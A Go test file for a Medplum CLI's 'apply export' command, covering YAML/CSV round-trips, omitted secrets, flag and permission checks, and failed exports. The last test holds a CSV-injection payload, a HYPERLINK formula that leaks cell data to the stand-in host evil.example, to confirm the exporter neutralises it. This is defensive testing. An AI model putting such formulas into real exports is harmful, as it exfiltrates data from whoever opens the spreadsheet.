package apply_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/medplumcli/medplum/client"
	"github.com/medplumcli/medplum/client/medplumtest"
	"github.com/medplumcli/medplum/commands/clitest"
)

// exportHeader is the comment an export starts with.
func exportHeader(name, id string) string {
	return "# Project \"" + name + "\" (Project/" + id + ")\n" +
		"# as a file for \"medplum apply -f\" (see \"medplum help apply-file\"), written\n" +
		"# by \"medplum apply export\". Applied to the same project, it plans no change.\n" +
		"#\n" +
		"# Left out: client secrets, the project's secrets, passwords and bots' code\n" +
		"# (no file should hold secrets; add source and dist to a bot to manage its\n" +
		"# code). What apply leaves as the server has it is not here either; the\n" +
		"# comments name what the project has of it. Anything the file could not\n" +
		"# list is named in a comment below: apply --prune would remove it.\n"
}

// The sandbox's demo project (the example file applied to it) exported:
// the file lists what the example made and what the seed has, and apply
// of the export, with and without --prune, plans no change.
func TestExportDemoProject(t *testing.T) {
	srv, e := newAcme(t)
	writeFile(t, e, "project.yaml", example(t))
	if r := e.Run("apply", "-f", "project.yaml", "--yes"); r.Code != 0 {
		t.Fatalf("apply of the example: %+v", r)
	}
	pid := srv.Seed.ProjectID
	want := exportHeader("Acme Clinic", pid) + `#
# The project's features (bots): not managed by apply.

version: 1
project:
  name: Acme Clinic
  id: ` + pid + `
settings:
  mfaRequired: true
  allowedMfaMethods: totp,email
accessPolicies:
  - name: Clinician
    resource:
      - resourceType: Patient
      - resourceType: Observation
      - resourceType: Practitioner
        readonly: true
  - name: Front desk
    resource:
      - resourceType: Patient
        criteria: Patient?_compartment=%provider_organization
      - resourceType: Appointment
clients:
  # made by the server with the project (Project/$init); delete these lines to leave it to the server
  - name: Acme Clinic Admin Client
    description: Seeded by medplumtest
    admin: true
  - name: CI deployer
    description: Deploys bots from CI
    admin: true
  - name: Reporting
    accessPolicy: Clinician
bots:
  - name: Sandbox Bot
    runtime: vmcontext
  # its code is not exported: add source (and dist) to manage it
  - name: appointment-reminders
    description: Sends appointment reminders
    runtime: vmcontext
    accessPolicy: Front desk
members:
  - email: admin@example.com
    firstName: Medplum
    lastName: Admin
    admin: true
  - email: homer@example.com
    firstName: Homer
    lastName: Simpson
    role: Patient
  - email: alice@example.com
    firstName: Alice
    lastName: Smith
    admin: true
  - email: bob@example.com
    firstName: Bob
    lastName: Jones
    accessPolicy: Clinician
  - email: carol@example.com
    firstName: Carol
    lastName: Lee
    access:
      - policy: Front desk
        parameters:
          provider_organization: Organization/west-clinic
      - policy: Front desk
        parameters:
          provider_organization: Organization/east-clinic
  - externalId: pt-1001
    firstName: Dan
    lastName: Park
    role: Patient
`
	srv.ResetRequests()
	e.Run("apply", "export").Expect(t, 0, want, "")
	// The profiles (for the names) are read a page of members at a time,
	// by _id, a few searches at once.
	paths := clitest.Paths(srv)
	var profiles []string
	for len(paths) > 7 && strings.Contains(paths[len(paths)-1], "?_id=") {
		profiles, paths = append(profiles, paths[len(paths)-1]), paths[:len(paths)-1]
	}
	sort.Strings(profiles)
	if len(profiles) != 2 || !strings.HasPrefix(profiles[0], "GET /fhir/R4/Patient?_id=") || !strings.HasSuffix(profiles[0], "&_count=2&_elements=name") ||
		!strings.HasPrefix(profiles[1], "GET /fhir/R4/Practitioner?_id=") || !strings.HasSuffix(profiles[1], "&_count=4&_elements=name") {
		t.Errorf("the profile searches: %q", profiles)
	}
	expectPaths(t, paths,
		"GET /auth/me",
		"GET /fhir/R4/Project/"+pid,
		"GET /fhir/R4/AccessPolicy?_project=Project%2F"+pid+"&_count=1000&_sort=_lastUpdated",
		"GET /fhir/R4/ClientApplication?_project=Project%2F"+pid+"&_count=1000&_sort=_lastUpdated",
		"GET /fhir/R4/Bot?_project=Project%2F"+pid+"&_count=1000&_sort=_lastUpdated",
		"GET /fhir/R4/ProjectMembership?project=Project/"+pid+"&profile-type=ClientApplication,Bot&_count=1000&_sort=_lastUpdated",
		"GET /fhir/R4/ProjectMembership?project=Project/"+pid+"&profile-type=Patient,Practitioner,RelatedPerson&_count=1000&_sort=_lastUpdated",
	)

	writeFile(t, e, "exported.yaml", want)
	plan := e.Run("apply", "-f", "exported.yaml", "--prune", "--dry-run").ExpectCode(t, 0, "")
	for _, line := range strings.Split(strings.TrimSuffix(plan, "\n"), "\n")[1:] {
		if !strings.HasPrefix(line, "  unchanged ") && !strings.HasPrefix(line, "No changes: ") {
			t.Errorf("apply --prune --dry-run of the export plans %q; the plan:\n%s", line, plan)
		}
	}
	if !strings.HasSuffix(plan, "No changes: project \"Acme Clinic\" matches the file.\n") {
		t.Errorf("the plan:\n%s", plan)
	}
}

func expectPaths(t *testing.T, got []string, want ...string) {
	t.Helper()
	if !slices.Equal(got, want) {
		t.Errorf("requests:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}
}

// A project made by hand, with what apply can write and what it cannot:
// the export lists the first, names the rest in comments and on stderr,
// leaves every secret out, and apply of the export plans no change (with
// --prune, it would remove only what the file could not list, as the
// warnings say). The same with the members in a CSV. Against a real
// Medplum in make test-real.
func TestExportRoundTrip(t *testing.T) {
	tg := clitest.NewTarget(t)
	name := tg.Unique("export")
	p := tg.InitProject(t, name)
	e := p.SignedIn(t)
	api := p.API(t)
	ctx := context.Background()
	low := strings.ToLower(name)
	mary, bea, cy := "mary-"+low+"@example.com", "bea-"+low+"@example.com", "cy-"+low+"@example.com"
	writeFile(t, e, "made.yaml", `version: 1
project:
  name: `+name+`
settings:
  flagOn: true
  limit: 5
  ratio: 2.0
  word: "true"
accessPolicies:
  - name: Reader
    resource:
      - resourceType: Patient
        readonly: true
  - name: Org
    resource:
      - resourceType: Patient
        criteria: Patient?_compartment=%org
clients:
  - name: Reporter
    description: Reads reports
    accessPolicy: Reader
bots:
  - name: `+low+`-bot
    description: Files reports
    accessPolicy: Org
members:
  - email: `+mary+`
    firstName: Mary Ann
    lastName: van Dyke
    admin: true
    scope: project
  - email: `+bea+`
    firstName: Bea
    lastName: Chu
    accessPolicy: Reader
    active: false
    scope: project
  - email: `+cy+`
    firstName: Cy
    lastName: Ode
    scope: project
    access:
      - policy: Org
        parameters:
          org: Organization/x-1
      - policy: Reader
  - externalId: ext-`+low+`
    firstName: Pat
    lastName: Ient
    role: Patient
`)
	if r := e.Run("apply", "-f", "made.yaml", "--yes"); r.Code != 0 {
		t.Fatalf("apply: %+v", r)
	}
	// What apply cannot write: a policy without a name (a member uses it),
	// two policies with one name, a client's redirect URI; and a secret.
	unnamed, err := api.CreateResource(ctx, client.Resource{"resourceType": "AccessPolicy", "resource": []any{map[string]any{"resourceType": "Observation"}}})
	if err != nil {
		t.Fatal(err)
	}
	var twins []string
	for range 2 {
		d, err := api.CreateResource(ctx, client.Resource{"resourceType": "AccessPolicy", "name": "Twin"})
		if err != nil {
			t.Fatal(err)
		}
		twins = append(twins, d.Resource.ID())
	}
	dan := "dan-" + low + "@example.com"
	if _, err := api.Invite(ctx, p.ProjectID, map[string]any{"resourceType": "Practitioner", "firstName": "Dan", "lastName": "Ng",
		"email": dan, "scope": "project", "sendEmail": false, "accessPolicy": map[string]any{"reference": "AccessPolicy/" + unnamed.Resource.ID()}}); err != nil {
		t.Fatal(err)
	}
	apps, err := api.SearchAll(ctx, "ClientApplication?name=Reporter&"+client.ProjectSearch(p.ProjectID))
	if err != nil || len(apps) != 1 {
		t.Fatalf("the Reporter client: %v %v", apps, err)
	}
	reporter := apps[0]
	reporter["redirectUri"] = "https://reports.example.com/callback"
	if _, err := api.UpdateResource(ctx, reporter); err != nil {
		t.Fatal(err)
	}
	secret := "s3cret-" + low
	proj, err := api.ReadProject(ctx, p.ProjectID)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := api.PatchProjectList(ctx, p.ProjectID, client.VersionID(proj.Resource), "secret", []client.Resource{{"name": "SMTP", "valueString": secret}}); err != nil {
		t.Fatal(err)
	}

	r := e.Run("apply", "export")
	r.NotContains(t, secret, p.ClientSecret)
	twinNote := func(id string) string {
		return "access policy AccessPolicy/" + id + " is not listed (2 policies are named \"Twin\"); what uses it names it by its id"
	}
	unnamedNote := "access policy AccessPolicy/" + unnamed.Resource.ID() + " is not listed (it has no name); what uses it names it by its id"
	wantErr := ""
	for _, w := range []string{unnamedNote, twinNote(twins[0]), twinNote(twins[1])} {
		wantErr += "medplum: warning: " + w + "\n"
	}
	if r.Code != 0 || r.Stderr != wantErr {
		t.Fatalf("apply export: exit %d, stderr:\n%s\nwant:\n%s", r.Code, r.Stderr, wantErr)
	}
	for _, want := range []string{
		"# The project has 1 secret, left out (medplum project secrets list).\n",
		"\nsettings:\n  flagOn: true\n  limit: 5\n  ratio: 2.0\n  word: \"true\"\n",
		"\n# " + unnamedNote + "\n# " + twinNote(twins[0]) + "\n# " + twinNote(twins[1]) + "\naccessPolicies:\n",
		"  # made by the server with the project (Project/$init); delete these lines to leave it to the server\n" +
			"  - name: " + name + " Default Client\n",
		"  # not managed by apply: redirectUri\n  - name: Reporter\n    description: Reads reports\n    accessPolicy: Reader\n",
		"\nbots:\n  # its code is not exported: add source (and dist) to manage it\n  - name: " + low + "-bot\n    description: Files reports\n",
		"    accessPolicy: Org\nmembers:\n",
		"  - email: " + mary + "\n    firstName: Mary Ann\n    lastName: van Dyke\n    admin: true\n",
		"  - email: " + bea + "\n    firstName: Bea\n    lastName: Chu\n    accessPolicy: Reader\n    active: false\n",
		"  - email: " + cy + "\n    firstName: Cy\n    lastName: Ode\n    access:\n      - policy: Org\n        parameters:\n          org: Organization/x-1\n      - policy: Reader\n",
		"  - externalId: ext-" + low + "\n    firstName: Pat\n    lastName: Ient\n    role: Patient\n",
		"  - email: " + dan + "\n    firstName: Dan\n    lastName: Ng\n    accessPolicy: AccessPolicy/" + unnamed.Resource.ID() + "\n",
	} {
		if !strings.Contains(r.Stdout, want) {
			t.Errorf("the export lacks\n%s\nit is:\n%s", want, r.Stdout)
		}
	}
	writeFile(t, e, "project.yaml", r.Stdout)
	plan := e.Run("apply", "-f", "project.yaml", "--dry-run").ExpectCode(t, 0, "")
	checkPlan(t, plan, name, 2)

	// --prune would remove what the file could not list, as it warned.
	r = e.Run("apply", "-f", "project.yaml", "--prune", "--dry-run")
	if r.Code != 6 || strings.Count(r.Stdout, "  remove ") != 2 || strings.Count(r.Stdout, "  remove        access policy \"Twin\"\n") != 2 ||
		!strings.Contains(r.Stdout, "  keep          access policy AccessPolicy/"+unnamed.Resource.ID()+" (kept: still used by 1 membership)\n") {
		t.Errorf("apply --prune --dry-run of the export: %+v", r)
	}

	// The members in a CSV next to the file: cy's two access entries do not
	// fit a row, so the CSV leaves them unmanaged, and says so.
	r = e.Run("apply", "export", "--members-csv", "members.csv")
	if r.Code != 0 || !strings.HasSuffix(r.Stdout, "\nmembers: members.csv\n") ||
		r.Stderr != wantErr+"medplum: warning: 1 member: the access policies are left blank in members.csv (not managed): a CSV row holds one policy with its parameters; export without --members-csv to manage them\n" {
		t.Fatalf("apply export --members-csv: %+v", r)
	}
	got, err := os.ReadFile(filepath.Join(e.Home, "members.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range []string{
		"email,externalId,firstName,lastName,role,patient,admin,active,accessPolicy\n",
		mary + ",,Mary Ann,van Dyke,Practitioner,,true,true,\n",
		bea + ",,Bea,Chu,Practitioner,,false,false,Reader\n",
		cy + ",,Cy,Ode,Practitioner,,false,true,\n",
		",ext-" + low + ",Pat,Ient,Patient,,false,true,\n",
		dan + ",,Dan,Ng,Practitioner,,false,true,AccessPolicy/" + unnamed.Resource.ID() + "\n",
	} {
		if !strings.Contains(string(got), row) {
			t.Errorf("members.csv lacks %q:\n%s", row, got)
		}
	}
	writeFile(t, e, "project.yaml", r.Stdout)
	checkPlan(t, e.Run("apply", "-f", "project.yaml", "--dry-run").ExpectCode(t, 0, ""), name, 2)
}

// checkPlan fails unless a plan changes nothing: every line unchanged,
// keep or would-remove (as many as the file could not list).
func checkPlan(t *testing.T, plan, name string, wouldRemove int) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(plan, "\n"), "\n")
	n := 0
	for _, line := range lines[1 : len(lines)-1] {
		switch {
		case strings.HasPrefix(line, "  would-remove "):
			n++
		case strings.HasPrefix(line, "  unchanged "), strings.HasPrefix(line, "  keep "):
		default:
			t.Errorf("the plan has %q:\n%s", line, plan)
		}
	}
	if n != wouldRemove || !strings.HasPrefix(lines[len(lines)-1], "No changes: project \""+name+"\" matches the file.") {
		t.Errorf("the plan (%d would-remove, want %d):\n%s", n, wouldRemove, plan)
	}
}

// A project with more members than a search reaches by _offset: the
// export pages through them all (cursor paging), inline and as a CSV, and
// apply of either plans no change. Against the 12,000-member project in
// make test-real.
func TestExportScale(t *testing.T) {
	tg := clitest.NewScaleTarget(t)
	e := tg.SignedIn(t)
	r := e.Run("apply", "export", "--members-csv", "members.csv")
	if r.Code != 0 || strings.Contains(r.Stderr, "written inline") {
		t.Fatalf("apply export --members-csv: exit %d, stderr %s", r.Code, r.Stderr)
	}
	csv, err := os.ReadFile(filepath.Join(e.Home, "members.csv"))
	if err != nil {
		t.Fatal(err)
	}
	rows := strings.Count(string(csv), "\n") - 1
	if rows <= tg.MaxOffset || rows > tg.Memberships {
		t.Errorf("members.csv has %d members; the project has %d memberships, a search reaches %d by _offset", rows, tg.Memberships, tg.MaxOffset)
	}
	writeFile(t, e, "project.yaml", r.Stdout)
	plan := e.Run("apply", "-f", "project.yaml", "--dry-run").ExpectCode(t, 0, "")
	if n := strings.Count(plan, "\n  unchanged     member "); n != rows {
		t.Errorf("the plan has %d members unchanged, the CSV %d", n, rows)
	}
	checkPlan(t, plan, planProject(plan), 0)

	r = e.Run("apply", "export")
	if r.Code != 0 || strings.Count(r.Stdout, "\n  - email: ")+strings.Count(r.Stdout, "\n  - externalId: ") != rows {
		t.Fatalf("apply export: exit %d, stderr %s, %d members", r.Code, r.Stderr, strings.Count(r.Stdout, "\n  - email: "))
	}
	if big := fmt.Sprintf("%d members written inline: --members-csv members.csv writes them to a CSV next to the YAML instead\n", rows); (rows > 1000) != strings.Contains(r.Stderr, big) {
		t.Errorf("stderr of an inline export of %d members:\n%s", rows, r.Stderr)
	}
	writeFile(t, e, "project.yaml", r.Stdout)
	checkPlan(t, e.Run("apply", "-f", "project.yaml", "--dry-run").ExpectCode(t, 0, ""), planProject(plan), 0)
}

// planProject is the project name a plan's first line names.
func planProject(plan string) string {
	name, _, _ := strings.Cut(strings.TrimPrefix(plan, "Plan for project \""), "\" (")
	return name
}

// Flags that cannot go together, and a CSV that cannot be written, are
// refused before anything is sent.
func TestExportRefusesBadFlags(t *testing.T) {
	srv, e := newAcme(t)
	e.Run("apply", "export", "--no-members", "--members-csv", "m.csv").Expect(t, 2, "",
		"medplum: --no-members and --members-csv cannot be used together\nRun 'medplum apply export --help' for usage.\n")
	e.Run("apply", "export", "--members-csv", "no/such/dir/m.csv").Expect(t, 2, "",
		"medplum: --members-csv no/such/dir/m.csv: cannot write in no/such/dir: no such file or directory\n")
	e.Run("apply", "export", "extra").Expect(t, 2, "", "medplum: medplum apply export takes no arguments, got \"extra\"\nRun 'medplum apply export --help' for usage.\n")
	clitest.ExpectNothingSent(t, srv)

	// --no-members: the section is left out, so apply does not manage them.
	out := e.Run("apply", "export", "--no-members").ExpectCode(t, 0, "")
	if strings.Contains(out, "members") {
		t.Errorf("apply export --no-members:\n%s", out)
	}
	writeFile(t, e, "project.yaml", out)
	checkPlan(t, e.Run("apply", "-f", "project.yaml", "--dry-run").ExpectCode(t, 0, ""), "Acme Clinic", 0)
	if _, err := os.Stat(filepath.Join(e.Home, "m.csv")); !os.IsNotExist(err) {
		t.Errorf("m.csv: %v", err)
	}
	entries, _ := os.ReadDir(e.Home)
	for _, d := range entries {
		if strings.Contains(d.Name(), ".spool") {
			t.Errorf("a spool file was left: %s", d.Name())
		}
	}
}

// A member who is not an admin sees part of the project at most: a file of
// that would have apply --prune remove the rest, so export refuses.
func TestExportNeedsAnAdmin(t *testing.T) {
	tg := clitest.NewTarget(t)
	name := tg.Unique("export-member")
	p := tg.NewProject(t, "", name)
	email, pw := strings.ToLower(tg.Unique("member"))+"@example.com", tg.Unique("pw-Aa1")
	m := p.AddPerson(t, email, pw, false)
	e := clitest.New(t)
	e.Set("MEDPLUM_BASE_URL", p.URL)
	if r := e.RunStdin(pw+"\n", "login", "--auth-type", "password", "--email", email, "--password-stdin", "--project", p.ProjectID, "--insecure-storage"); r.Code != 0 {
		t.Fatalf("login: %+v", r)
	}
	api := p.API(t)
	pm, err := api.ReadResource(context.Background(), client.ResourceURL("ProjectMembership", m))
	if err != nil {
		t.Fatal(err)
	}
	e.Run("apply", "export").Expect(t, 5, "", "medplum: apply export needs a project admin: "+pm.Ref("profile")+" is not an admin of project \""+
		name+"\" ("+p.ProjectID+"), so the file would miss what only admins see; nothing was written\n")
}

// An export that fails half-way has written the members read so far: the
// file ends with a key apply refuses, so that it cannot be applied as the
// whole project (apply --prune would remove every member it misses).
func TestExportStoppedHalfWayIsRefused(t *testing.T) {
	srv, e := newAcme(t, medplumtest.WithMembers(1100))
	// The clients' and bots' memberships, the first page of members, then
	// the second page fails.
	srv.Inject(medplumtest.Fault{Method: "GET", Path: "/fhir/R4/ProjectMembership", Skip: 2, Status: 500})
	for _, args := range [][]string{{"apply", "export"}, {"apply", "export", "--members-csv", "members.csv"}} {
		r := e.Run(args...)
		trailer := "# apply export stopped here: the members after this line are missing.\n" +
			"incomplete: the export failed half-way; export again (apply refuses this file)\n"
		if r.Code != 1 || !strings.HasSuffix(r.Stdout, trailer) || !strings.HasSuffix(r.Stderr, ": Internal Server Error\n") {
			t.Fatalf("%v: exit %d, stdout ends %q, stderr %s", args, r.Code, r.Stdout[max(0, len(r.Stdout)-300):], r.Stderr)
		}
		if len(args) == 2 && strings.Count(r.Stdout, "\n  - email: ") < 900 {
			t.Errorf("the members read before the failure are not there: %d", strings.Count(r.Stdout, "\n  - email: "))
		}
		writeFile(t, e, "project.yaml", r.Stdout)
		line := strings.Count(r.Stdout, "\n")
		srv.ResetRequests()
		e.Run("apply", "-f", "project.yaml", "--dry-run").Expect(t, 2, "", fmt.Sprintf("medplum: project.yaml is not valid (1 problem); nothing was sent:\n"+
			"  project.yaml:%d: incomplete: this file is an apply export that failed half-way: it misses part of the project "+
			"(apply --prune would remove it); run apply export again\n", line))
		clitest.ExpectNothingSent(t, srv)
		srv.Inject(medplumtest.Fault{Method: "GET", Path: "/fhir/R4/ProjectMembership", Skip: 2, Status: 500})
	}
}

// Members whose names a spreadsheet would run as formulas (CSV
// injection): apply export's members CSV writes them with a leading ', as
// -o csv does (numbers such as +1 stay as they are), and apply reads the
// CSV back as the names were: the plan changes nothing. In a project of
// its own, on the sandbox and (make test-real) a real Medplum.
func TestTargetExportMembersCSVNeutralisesFormulas(t *testing.T) {
	tg := clitest.NewTarget(t)
	name := tg.Unique("export-formula")
	p := tg.InitProject(t, name)
	e := p.SignedIn(t)
	low := strings.ToLower(name)
	writeFile(t, e, "made.yaml", `version: 1
project:
  name: `+name+`
members:
  - externalId: "@ext-`+low+`"
    firstName: '=HYPERLINK("https://evil.example/?d="&A1,"open")'
    lastName: "-Ode"
    role: Patient
  - email: "+mallory-`+low+`@example.com"
    firstName: "'=quoted"
    lastName: "+1"
    scope: project
`)
	if r := e.Run("apply", "-f", "made.yaml", "--yes"); r.Code != 0 {
		t.Fatalf("apply: %+v", r)
	}
	r := e.Run("apply", "export", "--members-csv", "members.csv")
	if r.Code != 0 || r.Stderr != "" || !strings.HasSuffix(r.Stdout, "\nmembers: members.csv\n") {
		t.Fatalf("apply export --members-csv: %+v", r)
	}
	got, err := os.ReadFile(filepath.Join(e.Home, "members.csv"))
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(got), "\n")
	for _, row := range []string{
		`,'@ext-` + low + `,"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",'-Ode,Patient,,false,true,`,
		"'+mallory-" + low + "@example.com,,''=quoted,+1,Practitioner,,false,true,",
	} {
		if !slices.Contains(lines, row) {
			t.Errorf("members.csv lacks the row\n%s\nit is:\n%s", row, got)
		}
	}
	writeFile(t, e, "project.yaml", r.Stdout)
	checkPlan(t, e.Run("apply", "-f", "project.yaml", "--dry-run").ExpectCode(t, 0, ""), name, 0)
}
